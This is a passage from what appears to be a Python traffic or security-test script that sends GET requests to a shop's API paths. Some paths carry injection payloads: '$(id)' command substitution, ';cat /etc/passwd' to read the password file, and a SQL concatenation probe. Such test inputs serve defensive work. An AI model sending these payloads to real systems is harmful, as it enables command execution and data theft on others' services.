                '/api/v3/shoppers/' + quote('$(id)', safe='') + '/', '/api/v3/search/?q=' + quote(';cat /etc/passwd'),
                '/api/v3/products/?category=' + quote("x'||(SELECT 1)||'")):
            x.call(cl, 'GET', p)
            yield x.r.uniform(90, 500)
